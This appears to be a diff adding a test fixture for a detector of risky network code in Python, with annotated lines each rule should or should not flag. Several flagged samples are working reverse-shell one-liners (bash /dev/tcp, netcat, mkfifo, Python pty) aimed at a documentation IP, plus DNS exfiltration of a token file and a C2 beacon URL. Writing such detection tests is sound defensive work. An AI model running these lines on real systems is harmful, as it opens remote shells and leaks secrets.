@@ -1,0 +1,102 @@
+# Annotated examples for network rules (default set).
+import http.server
+import os
+import pty
+import smtplib
+import socket
+import subprocess
+import urllib.parse
+import urllib.request
+import ftplib
+import requests
+import httpx
+from socket import socket as Sock, AF_INET, SOCK_STREAM
+
+# ruleid: AIR-NET-001
+s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+# ruleid: AIR-NET-001
+conn = socket.create_connection(("example.com", 443))
+# ruleid: AIR-NET-001
+alias_sock = Sock(AF_INET, SOCK_STREAM)
+# ok: AIR-NET-001
+host = socket.gethostname()
+
+# ruleid: AIR-NET-002
+sniffer = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.ntohs(3))
+# ok: AIR-NET-002
+tcp = socket.SOCK_STREAM
+
+# ruleid: AIR-NET-003
+r = requests.get("https://api.example.com/v1/items", timeout=10)
+# ruleid: AIR-NET-003
+page = urllib.request.urlopen("https://example.com").read()
+# ruleid: AIR-NET-003
+httpx.post("https://api.example.com/v1/items", json={"a": 1})
+# ok: AIR-NET-003
+parts = urllib.parse.urlparse("https://example.com/a?b=1")
+
+# ruleid: AIR-NET-004
+mail = smtplib.SMTP("mail.example.com", 587)
+# ruleid: AIR-NET-004
+ftp = ftplib.FTP("ftp.example.com")
+# ok: AIR-NET-004
+message = "send it with smtplib later"
+
+# ruleid: AIR-NET-005
+http.server.HTTPServer(("0.0.0.0", 8000), http.server.SimpleHTTPRequestHandler)
+# ok: AIR-NET-005
+handler = http.server.SimpleHTTPRequestHandler
+
+secret = open("token.txt").read()
+# ruleid: AIR-NET-006
+socket.gethostbyname(f"{secret.encode().hex()}.x.example.net")
+# ok: AIR-NET-006
+socket.gethostbyname("example.com")
+
+# ruleid: AIR-NET-007
+addr = socket.getaddrinfo("example.org", 443)
+# ok: AIR-NET-007
+fqdn = socket.getfqdn
+
+# ruleid: AIR-NET-008
+os.system("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1")
+# ruleid: AIR-NET-008
+cmd = "nc -e /bin/sh 203.0.113.7 9001"
+# ruleid: AIR-NET-008
+subprocess.run("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f", shell=True)
+# ruleid: AIR-NET-008
+one_liner = "import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.7\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")"
+# ok: AIR-NET-008
+doc = "netcat is a network utility"
+
+rs = socket.socket()
+rs.connect(("203.0.113.7", 4444))
+# ruleid: AIR-NET-009
+os.dup2(rs.fileno(), 0)
+# ok: AIR-NET-009
+os.dup2(3, 1)
+
+# ruleid: AIR-NET-010
+subprocess.call(["/bin/sh", "-i"], stdin=rs.fileno(), stdout=rs.fileno(), stderr=rs.fileno())
+# ok: AIR-NET-010
+subprocess.call(["ls"], stdin=subprocess.DEVNULL)
+
+# ruleid: AIR-NET-011
+pty.spawn("/bin/bash")
+# ok: AIR-NET-011
+tty_name = os.ttyname
+
+# ruleid: AIR-NET-012
+C2 = "http://198.51.100.23:8080/beacon"
+# ok: AIR-NET-012
+LOCAL = "http://127.0.0.1:8000/health"
+
+# ruleid: AIR-NET-013
+HOOK = "https://discord.com/api/webhooks/1234/abcd"
+# ok: AIR-NET-013
+DOCS = "https://docs.python.org/3/"
+
+# Methods of objects built by a resolved constructor are not resolved yet.
+listener = socket.socket()
+# todoruleid: AIR-NET-005
+listener.listen(5)
